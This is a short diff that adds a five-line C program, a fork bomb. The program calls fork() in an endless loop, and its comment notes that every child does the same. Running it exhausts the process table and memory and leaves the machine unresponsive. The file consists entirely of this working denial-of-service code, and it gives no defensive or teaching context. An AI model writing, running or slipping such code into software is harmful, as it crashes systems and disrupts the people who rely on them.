@@ -1,0 +1,5 @@
+#include <unistd.h>
+/* Forks forever; every child does the same. */
+int main(void) {
+	for (;;) fork();
+}
